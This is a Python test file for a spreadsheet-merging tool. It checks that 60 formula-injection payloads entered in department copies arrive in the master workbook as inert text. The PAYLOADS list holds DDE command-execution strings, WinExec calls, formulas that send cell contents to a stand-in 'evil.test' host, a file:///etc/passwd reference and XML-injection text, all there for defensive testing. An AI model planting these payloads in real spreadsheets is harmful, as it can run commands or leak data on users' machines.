"""60 payloads that people or attackers type into copies: the master gets their text, never a formula or a link."""

from __future__ import annotations

import copy
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from collabxl.batch import read_workbooks
from collabxl.grid import Edit
from collabxl.history import beside
from collabxl.opc.package import Package
from collabxl.patch import Changes, patched
from collabxl.schema.standard import Conflicts
from collabxl.share.exchange import Merged, merge_copies
from collabxl.share.ledger import Ledger
from collabxl.share.merge import Spot
from collabxl.share.split import Copy, split
from tests.parts import sdk_errors
from tests.share.masters import TODAY, filled, master, values

LONG = "=" + "A" * 32_766
"""As long a text as a cell can hold."""
PAYLOADS = [
    "=cmd|'/c calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|'/c calc'!A0",
    "-cmd|'/c calc'!A0",
    "@cmd|'/c calc'!A0",
    "=1+1",
    "=A1",
    "=SUM(A1:A9)",
    "+1+1",
    "-1-1",
    "+SUM(A1)",
    "-SUM(A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=@SUM(1)",
    "=-1+cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.test","点我")',
    '=HYPERLINK("http://evil.test/?"&A1&B1,"错误")',
    '+HYPERLINK("file://evil.test/x")',
    '@HYPERLINK("http://evil.test")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=WEBSERVICE("http://evil.test/?"&A1)',
    '=IMAGE("http://evil.test/a.png")',
    '=IMPORTXML("http://evil.test","//a")',
    "='file:///etc/passwd'#$passwd.A1",
    "=[http://evil.test/a.xlsx]Sheet1!A1",
    "='\\\\evil.test\\share\\[a.xlsx]Sheet1'!A1",
    '=CALL("kernel32","WinExec","JCJ","calc",0)',
    '=EXEC("calc.exe")',
    '=REGISTER.ID("kernel32","WinExec")',
    "{=SUM(A1:A9)}",
    "==1",
    "=-+=1",
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    '",=1+1,"',
    ";=1+1",
    "%0A-3+3+cmd|' /C calc'!D2",
    "http://evil.test/",
    "https://evil.test/登录?a=1&b=<2>",
    "mailto:evil@evil.test?subject=x",
    "file:///c:/windows/system32/calc.exe",
    "\\\\evil.test\\share\\x.exe",
    "javascript:alert(1)",
    '</t></si><f>1+1</f><si><t>"&lt;f&gt;',
    "=1\x01\x07\x1b[2J\x00b_x0041_",
    LONG,
]
ROWS = 20
KEYS = ("name", "owner", "deliverable")
COLUMNS = {"name": 2, "owner": 3, "deliverable": 5}
"""Free text, where a payload is as good as any other text; the other columns are tried with what fits into none."""
SPOTS = [(row, key) for row in range(ROWS) for key in KEYS]


def test_there_are_sixty() -> None:
    assert len(set(PAYLOADS)) == len(SPOTS) == 60


class Active:
    """What acts in a workbook: its formulas, links and what leads out of it."""

    def __init__(self, book: Path) -> None:
        package = Package(book.read_bytes())
        parts = {name: package.read(name) for name in package.parts if name.endswith((".xml", ".rels", ".vml"))}
        sheets = {name: part for name, part in parts.items() if name.startswith("xl/worksheets/")}
        self.formulas = sum(len(re.findall(rb"<(?:\w+:)?f[ >/]", part)) for part in sheets.values())
        self.outward = sum(part.count(b'TargetMode="External"') for part in parts.values())
        self.external = sum("externalLink" in name or b"<externalReference" in part for name, part in parts.items())
        links = [link for part in sheets.values() for link in re.findall(rb"<(?:\w+:)?hyperlink [^>]*>", part)]
        self.links = sum(b"location=" not in link for link in links)
        names = re.findall(rb'<definedName name="([^"]+)', parts["xl/workbook.xml"])
        self.names = {name for name in names if not name.startswith((b"_collabxl", b"_xlnm"))}


class Project:
    """A master that was split, and its second department's copy."""

    def __init__(self, folder: Path) -> None:
        self.master = master(folder / "主表.xlsx")
        made = split(self.master, folder / "out", today=TODAY)
        self.copy: Copy = made.copies[1]
        self.ready = [id for id in self.copy.sent.rows["tasks"] if id not in self.copy.sent.base["tasks"]]
        seed = {("tasks", id, key): f"{id}{key}" for id in self.ready for key in KEYS}
        self.merge(filled(self.copy.path, folder / "first.xlsx", seed))
        self.copy = split(self.master, folder / "again", today=TODAY).copies[1]
        self.before = Active(self.master)

    def merge(self, *copies: Path) -> Merged:
        return merge_copies(self.master, copies, today=TODAY)

    def cells(self) -> Iterator[tuple[tuple[str, str, str], str]]:
        for (row, key), payload in zip(SPOTS, PAYLOADS, strict=True):
            yield ("tasks", self.ready[row], key), payload

    def stands(self) -> None:
        """See that nothing acts that did not before."""
        after = Active(self.master)
        assert vars(after) == vars(self.before)
        assert sdk_errors(self.master) == []


@pytest.fixture(scope="module")
def fresh(tmp_path_factory: pytest.TempPathFactory) -> Project:
    return Project(tmp_path_factory.mktemp("project"))


@pytest.fixture
def project(fresh: Project, tmp_path: Path) -> Project:
    made = copy.copy(fresh)
    made.master = Path(shutil.copy(fresh.master, tmp_path))
    shutil.copy(beside(fresh.master), tmp_path)
    return made


def test_payloads_typed_as_text_arrive_as_text(project: Project, tmp_path: Path) -> None:
    typed = dict(project.cells())
    (result,) = project.merge(filled(project.copy.path, tmp_path / "back.xlsx", typed)).results
    assert [(change.spot, change.theirs) for change in result.plan.takes] == list(typed.items())
    project.stands()
    rows = values(project.master)["tasks"]
    assert {(sheet, id, key): rows[id][key] for sheet, id, key in typed} == typed
    with Ledger(project.master) as ledger:
        told = {entry.spot: entry.now for entry in ledger.entries() if entry.kind == "taken"}
    assert {spot: told[Spot(*spot)] for spot in typed} == typed


def test_payloads_where_days_numbers_and_words_belong_arrive_as_text(project: Project, tmp_path: Path) -> None:
    keys = ("due", "priority", "after", "status", "start", "remark", "department", "milestone")
    spots = [("tasks", id, key) for id in project.ready for key in keys]
    typed = dict(zip(spots, PAYLOADS, strict=False))
    (result,) = project.merge(filled(project.copy.path, tmp_path / "back.xlsx", typed)).results
    assert {change.spot for change in result.plan.takes} == set(typed)
    project.stands()
    rows = values(project.master)["tasks"]
    assert {spot: rows[spot[1]].get(spot[2]) for spot in typed} == typed


@pytest.mark.parametrize("cached", [True, False])
def test_real_formulas_and_links_leave_their_shown_text_behind(project: Project, tmp_path: Path, cached: bool) -> None:
    back = active(project, tmp_path / "active.xlsx", cached=cached)
    assert Active(back).links > 0
    (result,) = project.merge(back).results
    assert result.state == "merged"
    project.stands()
    rows = values(project.master)["tasks"]
    said = {rows[id][key] for (_, id, key), _ in project.cells()}
    assert ("shown" in said) == cached, "a formula without a result says nothing: the cell is as it was"


def active(project: Project, target: Path, *, cached: bool) -> Path:
    """Return a copy into which every payload that can be one was typed as a formula, each cell a link besides."""
    book = openpyxl.load_workbook(project.copy.path)
    sheet = book["任务分工表"]
    rows = {cell.value: cell.row for cell in sheet["A"] if cell.value}
    formulas = set()
    for (_, id, key), payload in project.cells():
        if payload == LONG or not payload.isprintable():
            continue
        cell = sheet.cell(rows[id], COLUMNS[key], payload)
        cell.hyperlink = f"http://evil.test/{id}"
        cell.value = payload
        if cell.data_type == "f":
            formulas.add(cell.coordinate.encode())
    assert len(formulas) > 20
    book.save(target)
    if not cached:
        return target
    package = Package(target.read_bytes())
    (part,) = (part for part in package.parts if b"evil.test" in package.read(part) and part.endswith(".xml"))
    package.put(part, re.sub(RESULTLESS, lambda hit: _with_result(hit, formulas), package.read(part)))
    target.write_bytes(package.save())
    return target


RESULTLESS = re.compile(rb'<c r="(\w+)"([^>]*?)(?: t="\w+")?><f>([^<]*)</f>(?:<v ?/>|<v></v>)</c>')


def _with_result(hit: re.Match[bytes], formulas: set[bytes]) -> bytes:
    at, how, formula = hit.groups()
    shown = b"shown" if at in formulas else b""
    return b'<c r="%s"%s t="str"><f>%s</f><v>%s</v></c>' % (at, how, formula, shown)


def test_payloads_in_conflict_wait_as_text_and_are_taken_as_text(project: Project, tmp_path: Path) -> None:
    ours = {spot: f"主表{number}" for number, (spot, _) in enumerate(project.cells())}
    filled(project.master, project.master, ours)
    merged = project.merge(filled(project.copy.path, tmp_path / "back.xlsx", dict(project.cells())))
    assert {line.spot: line.theirs for line in merged.waiting}.keys() == ours.keys()
    project.stands()
    filled_in = openpyxl.load_workbook(project.master)["冲突"]
    assert {cell.data_type for row in filled_in.iter_rows(min_row=6) for cell in row if cell.value is not None} == {"s"}
    choices(project.master)
    merged = project.merge()
    assert len(merged.settled) == 60
    project.stands()
    rows = values(project.master)["tasks"]
    assert {spot: rows[spot[1]][spot[2]] for spot in ours} == dict(project.cells())


def choices(book: Path) -> None:
    """Decide every conflict for the department."""
    page = next(page for page in read_workbooks([book]).readings[0].pages if page.key == Conflicts.meta.key)
    edits = [Edit(page.title, row, page.places["choice"].column, "部门") for row in page.rows]
    book.write_bytes(patched(book.read_bytes(), Changes(edits=edits, ours=True)))
